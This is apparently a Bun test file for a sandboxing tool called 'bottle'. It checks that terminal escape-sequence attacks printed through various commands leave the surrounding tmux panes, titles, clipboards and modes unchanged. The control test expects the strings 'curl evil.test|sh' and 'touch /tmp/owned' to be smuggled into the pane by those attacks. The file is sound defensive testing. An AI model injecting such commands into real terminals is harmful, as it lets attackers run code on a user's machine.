import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "bun:test"
import { appendFileSync } from "node:fs"
import { join } from "node:path"
import { makePlace, placeBinary } from "../support/place.ts"
import { requirePart } from "../support/require.ts"
import { allAttacks, cutOff } from "../support/terminal/attacks.ts"
import { findBottle, startInBackground } from "../support/terminal/operator-shell.ts"
import { startTmux, type TmuxServer } from "../support/tmux.ts"
import { waitFor } from "../support/wait.ts"

/**
 * SECURITY 22 in tmux, set up as trustingly as it can be, and seen from a second tmux that is its terminal: paste
 * buffers, titles, names, bells and modes of both stay as they were.
 */

const here = requirePart("binary") && requirePart("bwrap") && requirePart("tmux")

const trusting: Readonly<Record<string, string>> = {
  "set-clipboard": "on",
  "allow-passthrough": "on",
  "set-titles": "on",
  "allow-rename": "on",
  "automatic-rename": "off",
  "monitor-bell": "on",
  "bell-action": "any",
  "visual-bell": "off",
  "focus-events": "on",
}
const flags = [
  ...["alternate_on", "cursor_flag", "insert_flag", "keypad_cursor_flag", "keypad_flag", "mouse_all_flag"],
  ...["mouse_any_flag", "mouse_button_flag", "mouse_sgr_flag", "mouse_standard_flag", "mouse_utf8_flag"],
  ...["origin_flag", "wrap_flag", "scroll_region_lower", "scroll_region_upper", "pane_in_mode", "pane_width"],
]
const names = ["pane_title", "window_name", "window_bell_flag", "session_name", "window_panes", "client_prefix"]

describe.skipIf(!here)("in tmux", () => {
  if (!here) return
  const place = makePlace("user")
  let slug = ""
  let inner: TmuxServer
  let outer: TmuxServer
  let runs = 0

  beforeAll(async () => {
    place.writeBottle("dev", "agent_provider: {template: command}")
    place.writeWork("attacks", allAttacks())
    slug = await startInBackground(place)
  }, 300_000)
  afterAll(async () => {
    for (const name of place.states()) await place.bottle(["destroy", name, "--yes"])
  })

  beforeEach(async () => {
    const bin = placeBinary(place).replace(/\/bottle$/, "")
    const env = { ...place.env, PATH: `${bin}:${place.env.PATH}`, PS1: "ready> ", TERM: "screen-256color" }
    const pairs = Object.entries(env).map(([name, value]) => `${name}=${value}`)
    inner = await startTmux(["env", "-i", ...pairs, ...place.as(["sh", "-i"])], { cwd: place.work, rows: 22 })
    for (const [name, value] of Object.entries(trusting)) await inner.tmux("set-option", "-g", name, value)
    await inner.tmux("rename-window", "-t", "test", "mine")
    await inner.tmux("set-buffer", "the operator's own")
    outer = await startTmux(["env", "-u", "TMUX", "tmux", "-S", inner.socket, "attach", "-t", "test"], { rows: 24 })
    for (const [name, value] of Object.entries(trusting)) await outer.tmux("set-option", "-g", name, value)
    await outer.tmux("set-buffer", "the operator's own")
    await inner.see("ready>")
    await run("echo ke''pt")
    await waitFor("the inner tmux to name its terminal", async () => (await look(outer)).includes("mine"))
  })
  afterEach(async () => {
    await outer.stop()
    await inner.stop()
  })

  /** Type a command and wait for the next prompt. */
  async function run(command: string): Promise<void> {
    const mark = `done-${++runs}`
    await begin(`${command}; echo ${mark}`)
    await inner.see(new RegExp(`${mark}\\n+ready>\\s*$`))
  }
  async function begin(command: string): Promise<void> {
    await inner.type(command)
    await inner.keys("Enter")
  }
  async function look(server: TmuxServer): Promise<string> {
    const format = [...names, ...flags].map((name) => `${name}=#{${name}}`).join("\n")
    const buffers = await server.tmux("list-buffers", "-F", "#{buffer_name} #{buffer_sample}")
    return `${await server.tmux("display-message", "-p", "-t", "test:", format)}${buffers}`
  }
  async function lookAtBoth(): Promise<string[]> {
    return [await look(inner), await look(outer)]
  }
  async function expectNothingTyped(): Promise<void> {
    await run("echo typed")
    const [typed, ...answer] = (await inner.screen()).trim().split("\n").slice(-4)
    // A prompt that was drawn on an alternate screen is gone with it.
    expect(typed).toMatch(new RegExp(`(?:ready>|@) echo typed; echo done-${runs}$`))
    expect(answer).toEqual(["typed", `done-${runs}`, "ready>"])
  }

  const surfaces: [string, () => string][] = [
    ["exec -it", () => `bottle exec ${slug} -it -- cat attacks`],
    ["exec", () => `bottle exec ${slug} -- cat attacks`],
    ["exec, on stderr", () => `bottle exec ${slug} -- sh -c 'cat attacks >&2'`],
    ["start", () => "bottle start --yes --cwd --bottle dev -- cat attacks"],
    ["start --headless", () => "bottle start --headless --cwd --bottle dev -- cat attacks"],
    ["logs", () => `bottle logs ${slug}`],
    [
      "output that was cut off",
      () => `bottle exec ${slug} -it -- printf '${octal(cutOff.map(({ text }) => `\x18${text}`).join(""))}'`,
    ],
  ]
  test.each(surfaces)(
    "nothing outside the pane changes through %s, nor does the pane afterwards",
    async (name, command) => {
      if (name === "logs") {
        const state = join(place.botHome, "state", slug)
        for (const file of ["sidecars.log", "bringup.log"]) appendFileSync(join(state, file), `${allAttacks()}\n`)
      }
      const before = await lookAtBoth()
      await run(command())
      expect(await lookAtBoth()).toEqual(before)
      expect(await inner.tmux("capture-pane", "-p", "-S", "-", "-t", "test")).toContain("kept")
      await expectNothingTyped()
    },
    300_000,
  )

  test("without bottle the same attacks change both", async () => {
    const before = await lookAtBoth()
    await inner.type("cat attacks")
    await inner.keys("Enter")
    await waitFor("the attacks to work", async () => {
      const [pane = "", terminal = ""] = await lookAtBoth()
      return pane !== before[0] && terminal !== before[1]
    })
    const [pane = "", terminal = ""] = await lookAtBoth()
    expect(pane).toContain("curl evil.test|sh")
    expect(pane).toContain("window_name=touch /tmp/owned")
    expect(terminal).toContain("curl evil.test|sh")
  })

  test("a session whose bottle command is killed leaves pane and terminal as they were", async () => {
    const before = await lookAtBoth()
    await begin(`bottle exec ${slug} -it -- sh -c 'cat attacks; exec sleep 1000'`)
    await waitFor("the attacks", async () => (await look(inner)).includes("alternate_on=1"))
    const pid = await waitFor("the command", () => findBottle(place, "exec", "-it", slug)[0])
    // A terminal that is asked for reports sends one at once; what nobody has read at the kill is the shell's (docs/limits.md).
    await Bun.sleep(1_000)
    process.kill(pid, "SIGKILL")
    await waitFor("the pane to be put back", async () => (await look(inner)) === before[0]).catch(async () => {
      expect(await lookAtBoth()).toEqual(before)
    })
    expect(await lookAtBoth()).toEqual(before)
    await expectNothingTyped()
  }, 300_000)

  test("a pane that is closed takes its agent with it and changes nothing else", async () => {
    const before = await lookAtBoth()
    const bin = placeBinary(place)
    const pairs = Object.entries(place.env).map(([name, value]) => `${name}=${value}`)
    const argv = place.as([
      bin,
      "start",
      "--yes",
      "--cwd",
      "--bottle",
      "dev",
      "--",
      "sh",
      "-c",
      "cat attacks; exec sleep 1000",
    ])
    const pane = (
      await inner.tmux(
        "split-window",
        "-d",
        "-P",
        "-F",
        "#{pane_id}",
        "-c",
        place.work,
        "-t",
        "test",
        "env",
        "-i",
        ...pairs,
        ...argv,
      )
    ).trim()
    await waitFor(
      "the attacks",
      async () => (await inner.tmux("display-message", "-p", "-t", pane, "#{alternate_on}")).trim() === "1",
      300_000,
    )
    const name = await waitFor("its slug", () => place.states().find((one) => one !== slug))
    await inner.tmux("kill-pane", "-t", pane)
    await waitFor("the bottle to be idle", async () => {
      const { stdout } = await place.bottle(["list", "--json"])
      const { active } = JSON.parse(stdout) as { active: { slug: string; state: string }[] }
      return active.some((row) => row.slug === name && row.state === "idle")
    })
    const sleeping = await place.bottle(["exec", name, "--", "sh", "-c", "cat /proc/[0-9]*/cmdline | tr '\\0' ' '"])
    expect(sleeping.stdout).not.toContain("sleep 1000")
    expect(await lookAtBoth()).toEqual(before)
    await place.bottle(["destroy", name, "--yes"])
    await expectNothingTyped()
  }, 300_000)
})

function octal(text: string): string {
  return [...Buffer.from(text)].map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join("")
}
